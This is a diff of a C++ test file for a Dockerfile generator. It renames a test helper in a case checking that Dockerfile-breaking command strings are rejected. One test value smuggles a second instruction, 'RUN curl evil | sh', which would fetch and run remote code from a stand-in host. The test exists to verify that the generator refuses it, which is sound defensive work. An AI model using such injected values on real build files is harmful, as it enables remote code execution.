@@ -59,11 +59,11 @@ TEST_CASE("names, versions and markers that would inject are refused", "[contain
 }
 
 TEST_CASE("Dockerfile-breaking text is refused", "[containers][quoting]") {
-  auto lock = test::uniad_lock();
+  auto lock = test::uniad_command_lock();
   lock.builds[0].commands = {"pip install .\nRUN curl evil | sh"};
   require_rejected(lock, "build[0].commands[0]");
 
-  lock = test::uniad_lock();
+  lock = test::uniad_command_lock();
   lock.builds[0].commands = {"pip install . \\"};
   require_rejected(lock, "build[0].commands[0]");
 
